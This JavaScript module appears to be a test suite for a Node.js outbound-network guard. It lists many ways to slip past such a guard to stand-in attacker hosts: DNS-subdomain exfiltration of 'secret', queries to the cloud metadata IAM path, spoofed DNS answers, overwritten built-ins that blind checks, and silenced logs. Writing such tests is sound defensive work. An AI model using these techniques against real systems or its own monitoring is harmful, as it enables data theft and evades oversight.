import { createHook } from 'node:async_hooks';
import dgram from 'node:dgram';
import { createRequire } from 'node:module';
import { subscribe } from 'node:diagnostics_channel';
import dns from 'node:dns';
import http from 'node:http';
import http2 from 'node:http2';
import https from 'node:https';
import net, { connect } from 'node:net';
import tls from 'node:tls';
import { Agent, request, setGlobalDispatcher } from 'undici';
import { left, outcome, ports, SOCKET, THROUGH } from './common.mjs';

const require = createRequire(import.meta.url);
const EVIL = `http://127.0.0.1:${ports.evil}/`;
const NAME = 'c2VjcmV0.evil.invalid';
const toEvil = () => outcome(net.connect(ports.evil, '127.0.0.1'), 'connect');

export const fetched = async () => (await fetch(EVIL)).status && THROUGH;
export const httpsByName = async () => outcome(https.get('https://evil.invalid/'), 'response').catch(left);
export const overHttp2 = async () => outcome(http2.connect(EVIL), 'connect', 'remoteSettings').catch(left);
export const byAddress = toEvil;
export const byNamedImport = async () => outcome(connect(ports.evil, '127.0.0.1'), 'connect');
export const overTls = async () => outcome(tls.connect({ port: ports.evil, host: '127.0.0.1' }), 'secureConnect').catch(left);
export const metadata = async () => (await fetch('http://169.254.169.254/latest/meta-data/iam/')).status && THROUGH;
export const unixSocket = async () => outcome(net.connect(SOCKET), 'connect');
export const mappedAddress = async () => outcome(net.connect(ports.evil, '::ffff:127.0.0.1'), 'connect').catch(left);
export const decimalAddress = async () => outcome(net.connect(ports.evil, '2130706433'), 'connect').catch(left);
export const undiciRequest = async () => (await request(EVIL)).statusCode && THROUGH;
export const webSocket = async () => new Promise((done, failed) => {
  subscribe('net.client.socket', ({ socket }) => socket.once('connect', () => done(THROUGH)));
  new WebSocket(EVIL.replace('http', 'ws')).onerror = () => failed(new Error('refused')); // the server speaks no WebSocket
});
export const dispatcher = async () => {
  setGlobalDispatcher(new Agent({ connect: { lookup: (name, options, done) => done(null, [{ address: '127.0.0.1', family: 4 }]) } }));
  return (await fetch(`http://api.declared.invalid:${ports.evil}/`)).status && THROUGH;
};

/** A declared name, resolved by the attacker. */
export const ownLookup = async () => outcome(http.get({ host: 'api.declared.invalid', port: ports.evil, lookup: (name, options, done) => done(null, options.all ? [{ address: '127.0.0.1', family: 4 }] : '127.0.0.1', 4) }), 'response');
export const ownConnection = async () => {
  const agent = new http.Agent();
  agent.createConnection = () => net.connect(ports.evil, '127.0.0.1');
  return outcome(http.get({ host: 'api.declared.invalid', agent }), 'response');
};
/** A host that is declared when it is checked, and another when it is used. */
export const getters = async () => {
  let reads = 0;
  const options = { port: ports.evil, get host() { return reads++ === 0 ? 'api.declared.invalid' : '127.0.0.1'; } };
  return outcome(net.connect(options), 'connect').catch(left);
};

/** Classes of libuv's handles, taken from a connection that is declared. */
export const stolenHandle = async () => {
  let Request;
  const hook = createHook({ init(id, type, trigger, resource) { if (type === 'TCPCONNECTWRAP') Request = resource.constructor; } }).enable();
  const socket = net.connect(ports.aws, '127.0.0.1');
  await outcome(socket, 'connect');
  hook.disable();
  const handle = new socket._handle.constructor(0);
  return new Promise((done, failed) => {
    const asked = new Request();
    asked.oncomplete = (status) => (status === 0 ? done(THROUGH) : failed(new Error(`${status}`)));
    const refused = handle.connect(asked, '127.0.0.1', ports.evil);
    if (refused !== 0) failed(Object.assign(new Error('refused'), { code: 'EACCES' }));
  });
};

export const overwrittenBuiltins = async () => {
  Set.prototype.has = Array.prototype.includes = String.prototype.startsWith = String.prototype.includes = () => true;
  RegExp.prototype.test = () => true;
  String.prototype.toLowerCase = () => 'api.declared.invalid';
  Reflect.apply = Function.prototype.call;
  return toEvil();
};
/** What `const [options] = args` asks, in whosever code it stands. */
export const overwrittenIterator = async () => {
  const iterate = Array.prototype[Symbol.iterator];
  Array.prototype[Symbol.iterator] = function () {
    return this[0]?.port === ports.evil ? iterate.call([{ host: 'api.declared.invalid', port: 443 }, null]) : iterate.call(this);
  };
  return toEvil();
};
/** The event is the alarm: what is stopped in silence can be tried again and again. */
export const silencedLog = async () => {
  require('node:fs').writeSync = require('node:fs').write = process.stdout.write = process.stderr.write = () => 0;
  return toEvil();
};
export const overwrittenJson = async () => {
  JSON.stringify = () => '';
  String.prototype.slice = () => '';
  String.prototype.replace = () => '';
  Date.now = () => 0;
  process.stdout.write = () => true;
  return toEvil();
};
export const toJson = async () => {
  Array.prototype.toJSON = String.prototype.toJSON = () => 0;
  return toEvil();
};
export const ownSubclass = async () => {
  class Own extends net.Socket { connect(...args) { return super.connect(...args); } }
  return outcome(new Own().connect(ports.evil, '127.0.0.1'), 'connect');
};
export const lateWrapper = async () => {
  const before = net.Socket.prototype.connect;
  net.Socket.prototype.connect = function (...args) { return before.apply(this, args); };
  return toEvil();
};
export const otherNetModule = async () => outcome(process.getBuiltinModule('net').createConnection(ports.evil, '127.0.0.1'), 'connect');

export const nextInvocation = async () => outcome(http.get(`http://${process.env.AWS_LAMBDA_RUNTIME_API}/2018-06-01/runtime/invocation/next`), 'response');

const datagram = (socket, ...to) => new Promise((done, failed) => {
  socket.on('error', failed);
  socket.send('secret', ...to, (error) => (error ? failed(error) : done(THROUGH)));
});
export const udp = async () => datagram(dgram.createSocket('udp4'), ports.evil, '127.0.0.1');
export const udp6 = async () => datagram(dgram.createSocket('udp6'), ports.evil, '::1');
export const udpConnected = async () => {
  const socket = dgram.createSocket('udp4');
  socket.connect(ports.evil, '127.0.0.1');
  await outcome(socket, 'connect');
  return datagram(socket);
};
export const udpByName = async () => datagram(dgram.createSocket('udp4'), 53, NAME).catch(left);

export const lookup = async () => new Promise((done, failed) => dns.lookup(NAME, (error) => (error ? failed(error) : done(THROUGH)))).catch(left);
export const lookupPromise = async () => dns.promises.lookup(NAME).then(() => THROUGH, left);
export const txtRecord = async () => dns.promises.resolveTxt(NAME).then(() => THROUGH, left);
export const callbackRecord = async () => new Promise((done, failed) => dns.resolve4(NAME, (error) => (error ? failed(error) : done(THROUGH)))).catch(left);
export const ownResolver = async () => new dns.promises.Resolver({ timeout: 200, tries: 1 }).resolve4(NAME).then(() => THROUGH, left);
export const reverse = async () => dns.promises.reverse('127.0.0.77').then(() => THROUGH, left);
export const ownServers = async () => {
  dns.setServers(['127.0.0.1']);
  return THROUGH;
};
/** The channel of c-ares itself, beneath `dns`. */
export const stolenChannel = async () => {
  let Request;
  createHook({ init(id, type, trigger, resource) { if (type === 'QUERYWRAP') Request = resource.constructor; } }).enable();
  const resolver = new dns.Resolver({ timeout: 200, tries: 1 });
  resolver.resolve4('api.declared.invalid', () => undefined);
  const handle = Object.getOwnPropertySymbols(resolver).map((key) => resolver[key]).concat(resolver._handle).find((value) => value?.queryTxt);
  return new Promise((done, failed) => {
    const asked = new Request();
    asked.oncomplete = (error) => (error === 'EREFUSED' ? failed(Object.assign(new Error('refused'), { code: error })) : done(THROUGH));
    handle.queryTxt(asked, NAME);
  });
};
/** The answer of DNS for a declared name, given by whoever has the request. */
export const forgedAnswer = async () => {
  let asked;
  createHook({ init(id, type, trigger, resource) { if (type === 'GETADDRINFOREQWRAP') asked = resource; } }).enable();
  dns.lookup('api.declared.invalid', () => undefined);
  asked.oncomplete?.(null, ['127.0.0.1']);
  return toEvil();
};
export const forgedActive = async () => {
  dns.lookup('api.declared.invalid', () => undefined);
  process._getActiveRequests().find(({ hostname }) => hostname !== undefined)?.oncomplete(null, ['127.0.0.1']);
  return toEvil();
};
/** A server that is to listen at a name looks it up. */
export const listenByName = async () => outcome(net.createServer().listen(0, NAME), 'listening').catch(left);
